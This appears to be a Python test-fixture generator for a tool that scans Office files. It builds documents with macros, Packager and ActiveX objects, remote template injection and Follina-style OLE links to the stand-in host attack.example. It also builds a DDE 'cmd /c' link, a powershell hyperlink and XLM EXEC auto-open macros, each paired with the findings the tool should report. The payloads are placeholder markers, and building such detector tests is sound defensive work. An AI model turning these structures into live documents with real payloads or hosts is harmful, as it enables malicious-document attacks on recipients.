"""What Office documents carry: macros, OLE and the Packager, ActiveX, outside templates and objects, XLM, custom UI, altChunk, add-ins."""
import struct
from common import *

MS = 'http://schemas.microsoft.com/office/2006/relationships'
VBA = 'application/vnd.ms-office.vbaProject'

def ole_package(marker):
    """The stream that the Packager writes: name, source, temporary name, bytes."""
    body = b'MZ' + marker.encode()
    inner = b'\2\0' + b'a.exe\0' + b'c:\\a.exe\0' + b'\0\0\3\0' + struct.pack('<I', 9) + b'c:\\a.exe\0' + struct.pack('<I', len(body)) + body
    return ole([('\1Ole10Native', struct.pack('<I', len(inner)) + inner), ('\1Ole', bytes(20))])

def object_markup(identity='rId9', kind='Embed', program='Package'):
    return f'<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s" style="width:9pt;height:9pt"/><o:OLEObject Type="{kind}" ProgID="{program}" ShapeID="s" DrawAspect="Content" ObjectID="_1" r:id="{identity}"><o:LinkType>EnhancedMetaFile</o:LinkType><o:FieldCodes>\\f 0</o:FieldCodes></o:OLEObject></w:object></w:r></w:p>'

def word():
    m = mark('vba')
    yield 'macro.docm', m, docx('', kind='docm', relations=[('rId9', f'{MS}/vbaProject', 'vbaProject.bin', False)], parts={'word/vbaProject.bin': ole([('dir', m.encode()), ('Module1', m.encode())]), 'word/vbaData.xml': f'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:docEvents>{m}</wne:docEvents></wne:vbaSuppData>'}, overrides=[('word/vbaProject.bin', VBA)]), ['macro']
    yield 'macro-named.docx', m, docx('', relations=[('rId9', f'{MS}/vbaProject', 'media/image1.png', False)], parts={'word/media/image1.png': ole([('dir', m.encode())])}, overrides=[('word/media/image1.png', VBA)]), ['macro']
    yield 'macro-unreferenced.docx', m, docx('', parts={'word/vbaProject.bin': ole([('dir', m.encode())])}), []
    yield 'signed-macro.docm', m, docx('', kind='docm', relations=[('rId9', f'{MS}/vbaProject', 'vbaProject.bin', False)], parts={'word/vbaProject.bin': ole([('dir', b'x')]), 'word/_rels/vbaProject.bin.rels': rels(('rId1', f'{MS}/vbaProjectSignature', 'vbaProjectSignature.bin', False)), 'word/vbaProjectSignature.bin': m.encode()}, overrides=[('word/vbaProject.bin', VBA)]), ['macro']
    for name, kind, external, target in (('template-http', 'attachedTemplate', True, 'http://attack.example/{m}.dotm'), ('template-unc', 'attachedTemplate', True, '\\\\attack.example\\{m}.dotm'), ('template-file', 'attachedTemplate', True, 'file:///\\\\attack.example\\{m}.dotm'), ('template-mhtml', 'attachedTemplate', True, 'mhtml:http://attack.example/{m}!x'), ('template-entity', 'attachedTemplate', True, 'http&#58;//attack.example/{m}')):
        m = mark(name)
        yield f'{name}.docx', m, docx('', relations=[('rId8', 'settings', 'settings.xml', False)], parts={'word/settings.xml': f'<w:settings {W} {R}><w:attachedTemplate r:id="rId1"/></w:settings>', 'word/_rels/settings.xml.rels': rels(('rId1', kind, target.replace('{m}', m), external))}, overrides=[('word/settings.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml')]), ['attached_template']
    for name, target in (('follina', 'http://attack.example/{m}.html!'), ('ole-link', 'http://attack.example/{m}.hta'), ('ole-script', 'script:http://attack.example/{m}.sct'), ('ole-mhtml', 'mhtml:http://attack.example/{m}!x-usc:http://attack.example/{m}'), ('ole-unc', 'file://attack.example/{m}')):
        m = mark(name)
        yield f'{name}.docx', m, docx(object_markup(kind='Link', program='htmlfile'), relations=[('rId9', 'oleObject', target.replace('{m}', m), True)]), ['ole_object|external_link']
    for name, kind in (('image', 'image'), ('hyperlink', 'hyperlink'), ('frame', 'frame'), ('sub-document', 'subDocument'), ('chunk', 'aFChunk'), ('header', 'header'), ('font', 'font'), ('video', 'video'), ('unknown', 'attackers/own'), ('package', 'package'), ('control', 'control'), ('custom', 'customXml'), ('mail-merge', 'mailMergeSource'), ('styles', 'styles')):
        for scheme, target in (('file', 'file:///c:/{m}'), ('unc', '\\\\attack.example\\{m}'), ('script', 'javascript:{m}'), ('msdt', 'ms-msdt:/id {m}'), ('search', 'search-ms:query={m}')):
            m = mark(f'external-{name}-{scheme}')
            body = {'hyperlink': '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>a</w:t></w:r></w:hyperlink></w:p>', 'chunk': '<w:altChunk r:id="rId9"/>', 'sub-document': '<w:p><w:subDoc r:id="rId9"/></w:p>', 'image': '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId9" r:embed="rId9"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'}.get(name, '')
            yield f'external-{name}-{scheme}.docx', m, docx(body, relations=[('rId9', kind, target.replace('{m}', m), True)]), []
    m = mark('package-object')
    yield 'packager.docx', m, docx(object_markup(), relations=[('rId9', 'oleObject', 'embeddings/oleObject1.bin', False)], parts={'word/embeddings/oleObject1.bin': ole_package(m)}, defaults=[('bin', 'application/vnd.openxmlformats-officedocument.oleObject')]), ['ole_object']
    yield 'equation.docx', m, docx(object_markup(program='Equation.3'), relations=[('rId9', 'oleObject', 'embeddings/oleObject1.bin', False)], parts={'word/embeddings/oleObject1.bin': ole([('Equation Native', b'\x1c\0' + m.encode() * 20)])}, defaults=[('bin', 'application/vnd.openxmlformats-officedocument.oleObject')]), ['ole_object']
    yield 'embedded-exe.docx', m, docx(object_markup(), relations=[('rId9', 'package', 'embeddings/a.exe', False)], parts={'word/embeddings/a.exe': b'MZ' + m.encode()}, defaults=[('exe', 'application/octet-stream')]), []
    yield 'activex.docx', m, docx('<w:p><w:r><w:control r:id="rId9" w:name="a" w:shapeid="s"/></w:r></w:p>', relations=[('rId9', 'control', 'activeX/activeX1.xml', False)], parts={'word/activeX/activeX1.xml': f'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{{{m}}}" ax:persistence="persistPropertyBag"/>'}, overrides=[('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml')]), ['activex']
    yield 'chunk-html.docx', m, docx('<w:altChunk r:id="rId9"/>', relations=[('rId9', 'aFChunk', 'a.mht', False)], parts={'word/a.mht': f'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>{m}</script>'}, defaults=[('mht', 'message/rfc822')]), ['sub_document']
    yield 'custom-ui.docx', m, package('docx', {'word/document.xml': f'<w:document {W}><w:body/></w:document>', 'customUI/customUI14.xml': f'<customUI onLoad="{m}"/>'}), []
    yield 'web-extension.docx', m, docx('', parts={'word/webextensions/webextension1.xml': f'<we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{m}"/>'}), []
    yield 'mail-merge.docx', m, docx('', relations=[('rId8', 'settings', 'settings.xml', False)], parts={'word/settings.xml': f'<w:settings {W} {R}><w:mailMerge><w:connectString w:val="{m}"/><w:query w:val="{m}"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="{m}"/></w:docVars></w:settings>'}, overrides=[('word/settings.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml')]), ['mail_merge']
    yield 'vml-script.docx', m, docx(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:{m}" onclick="{m}" style="behavior:url({m})"/></w:pict></w:r></w:p>'), []
    yield 'vml-source.docx', m, docx(f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\attack.example\\{m}"/></v:shape></w:pict></w:r></w:p>'), []
    yield 'comment-part.docx', m, docx(f'<!-- {m} --><?{m} {m}?>'), []
    yield 'namespace.docx', m, docx(f'<a:b xmlns:a="urn:{m}">{m}</a:b>'), []
    yield 'embedded-docm.docx', m, docx(object_markup(program='Word.Document.12'), relations=[('rId9', 'package', 'embeddings/a.docm', False)], parts={'word/embeddings/a.docm': docx('', kind='docm', relations=[('rId9', f'{MS}/vbaProject', 'vbaProject.bin', False)], parts={'word/vbaProject.bin': ole([('dir', m.encode())])}, overrides=[('word/vbaProject.bin', VBA)])}, defaults=[('docm', 'application/vnd.ms-word.document.macroEnabled.12')]), []
    yield 'font.docx', m, docx('', relations=[('rId9', 'fontTable', 'fontTable.xml', False)], parts={'word/fontTable.xml': f'<w:fonts {W} {R}><w:font w:name="a"><w:embedRegular r:id="rId1" w:fontKey="{{00000000-0000-0000-0000-000000000000}}"/></w:font></w:fonts>', 'word/_rels/fontTable.xml.rels': rels(('rId1', 'font', 'fonts/font1.odttf', False)), 'word/fonts/font1.odttf': m.encode() * 40}, overrides=[('word/fontTable.xml', 'application/vnd.openxmlformats-officedocument.wordprocessingml.fontTable+xml')], defaults=[('odttf', 'application/vnd.openxmlformats-officedocument.obfuscatedFont')]), []

def excel():
    row = '<row r="1"><c r="A1"><v>1</v></c></row>'
    m = mark('xlm')
    macro = f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" {S}><sheetData><row r="1"><c r="A1"><f>EXEC("{m}")</f><v>1</v></c></row></sheetData></xm:macrosheet>'
    for state in ('hidden', 'veryHidden', 'visible'):
        book = f'<workbook {S} {R}><sheets><sheet name="a" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="{state}" r:id="rId2"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName><definedName name="Auto_Close">Macro1!{m}</definedName></definedNames></workbook>'
        yield f'xlm-{state}.xlsm', m, package('xlsm', {'xl/workbook.xml': book, 'xl/_rels/workbook.xml.rels': rels(('rId1', 'worksheet', 'worksheets/sheet1.xml', False), ('rId2', f'{MS}/xlMacrosheet', 'macrosheets/sheet1.xml', False)), 'xl/worksheets/sheet1.xml': f'<worksheet {S}><sheetData>{row}</sheetData></worksheet>', 'xl/macrosheets/sheet1.xml': macro},
                                              overrides=[('xl/worksheets/sheet1.xml', SHEET), ('xl/macrosheets/sheet1.xml', 'application/vnd.ms-excel.macrosheet+xml')]), ['xlm_macro']
    yield 'xlm-as-sheet.xlsx', m, xlsx(row, sheets=[('Macro1', '', macro)]), []
    yield 'dialog.xlsm', m, xlsx(row, kind='xlsm', relations=[('rId9', 'dialogsheet', 'dialogsheets/sheet1.xml', False)], parts={'xl/dialogsheets/sheet1.xml': f'<dialogsheet {S}>{m}</dialogsheet>'}), []
    yield 'connections.xlsx', m, xlsx(row, relations=[('rId9', 'connections', 'connections.xml', False)], parts={'xl/connections.xml': f'<connections {S}><connection id="1" refreshOnLoad="1" type="5"><dbPr connection="{m}" command="{m}"/><webPr url="http://attack.example/{m}"/></connection></connections>'}, overrides=[('xl/connections.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml')]), ['data_connection']
    yield 'query.xlsx', m, xlsx(row, parts={'xl/worksheets/_rels/sheet1.xml.rels': rels(('rId1', 'queryTable', '../queryTables/queryTable1.xml', False)), 'xl/queryTables/queryTable1.xml': f'<queryTable {S} name="{m}" connectionId="1"/>'}), []
    yield 'external.xlsx', m, xlsx(row, book='<externalReferences><externalReference r:id="rId9"/></externalReferences>', relations=[('rId9', 'externalLink', 'externalLinks/externalLink1.xml', False)], parts={'xl/externalLinks/externalLink1.xml': f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c {m}"><ddeItems><ddeItem name="a" advise="1"/></ddeItems></ddeLink></externalLink>'}, overrides=[('xl/externalLinks/externalLink1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml')]), ['dde|external_workbook|data_connection']
    yield 'hyperlink.xlsx', m, xlsx(row, sheet_end='<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>', parts={'xl/worksheets/_rels/sheet1.xml.rels': rels(('rId1', 'hyperlink', f'file:///c:/{m}.exe', True))}), ['unsafe_link|external_link']
    yield 'web-publish.xlsx', m, xlsx(row, sheet_end=f'<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="\\\\attack.example\\{m}"/></webPublishItems>'), []
    yield 'printer.xlsx', m, xlsx(row, sheet_end='<pageSetup r:id="rId1"/>', parts={'xl/worksheets/_rels/sheet1.xml.rels': rels(('rId1', 'printerSettings', '../printerSettings/printerSettings1.bin', False)), 'xl/printerSettings/printerSettings1.bin': m.encode()}), []
    yield 'shape-macro.xlsx', m, xlsx(row, sheet_end='<drawing r:id="rId1"/>', parts={'xl/worksheets/_rels/sheet1.xml.rels': rels(('rId1', 'drawing', '../drawings/drawing1.xml', False)), 'xl/drawings/drawing1.xml': f'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:sp macro="[0]!{m}"><xdr:nvSpPr><xdr:cNvPr id="1" name="a"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>'}, overrides=[('xl/drawings/drawing1.xml', 'application/vnd.openxmlformats-officedocument.drawing+xml')]), ['macro_link']

def power_point():
    deck = {'ppt/presentation.xml': f'<p:presentation {P} {R}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>', 'ppt/_rels/presentation.xml.rels': rels(('rId1', 'slide', 'slides/slide1.xml', False))}
    for name, click, kind, target in (('program', '<a:hlinkClick r:id="rId1" action="ppaction://program"/>', 'hyperlink', 'file:///c:/{m}.exe'), ('macro', '<a:hlinkClick r:id="" action="ppaction://macro?name={m}"/>', None, ''), ('ole', '<a:hlinkHover r:id="rId1" action="ppaction://ole?verb=0"/>', 'oleObject', '{m}'), ('hover', '<a:hlinkHover r:id="rId1" action="ppaction://program"/>', 'hyperlink', 'powershell%20{m}'), ('presentation', '<a:hlinkClick r:id="rId1" action="ppaction://hlinkpres?slideindex=1"/>', 'hyperlink', '\\\\attack.example\\{m}.pptx'), ('sound', '<a:hlinkClick r:id=""><a:snd r:embed="rId1" name="{m}"/></a:hlinkClick>', 'audio', 'http://attack.example/{m}.wav')):
        m = mark('pptx-' + name)
        shape = f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="s">{click.replace("{m}", m)}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>'
        slide = f'<p:sld {P} {R}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{shape}</p:spTree></p:cSld></p:sld>'
        more = {'ppt/slides/_rels/slide1.xml.rels': rels(('rId1', kind, target.replace('{m}', m), True))} if kind else {}
        yield f'action-{name}.pptx', m, package('pptx', deck | {'ppt/slides/slide1.xml': slide} | more, overrides=[('ppt/slides/slide1.xml', 'application/vnd.openxmlformats-officedocument.presentationml.slide+xml')]), []

def legacy():
    m = mark('ole2')
    for name, streams in (('word-macro.doc', [('WordDocument', b'\xec\xa5\xc1\0' + bytes(2000)), ('Macros', m.encode()), ('1Table', bytes(600))]), ('native.doc', [('WordDocument', b'\xec\xa5\xc1\0' + bytes(2000)), ('\1Ole10Native', m.encode())]), ('book.xls', [('Workbook', b'\x09\x08\x10\0\0\6\5\0' + bytes(12) + b'\x0a\0\0\0'), ('_VBA_PROJECT_CUR', m.encode())]), ('show.ppt', [('PowerPoint Document', b'\x0f\0\xe8\x03' + bytes(60)), ('Current User', m.encode())]), ('mail.msg', [('__properties_version1.0', bytes(32)), ('__substg1.0_1000001F', m.encode('utf-16-le'))]), ('unknown.doc', [('Unknown', m.encode())]), ('installer.msi', [('\u4840\u3b3f', m.encode())]), ('equation.doc', [('Equation Native', m.encode())])):
        yield name, m, ole(streams), []

def samples():
    for make in (word, excel, power_point):
        for name, marker, data, notes in make():
            yield either(name, data, 'ooxml_bad_xml', 'ooxml_no_main_part', 'zip_bad_name', marker=marker, notes=notes)
    for name, marker, data, notes in legacy():
        # A message's text may say anything.
        yield either(name, data, 'damaged', 'compound_damaged', 'unsupported_type', 'banned_type', 'old_version', 'unknown_type', marker=None if name == 'mail.msg' else marker)
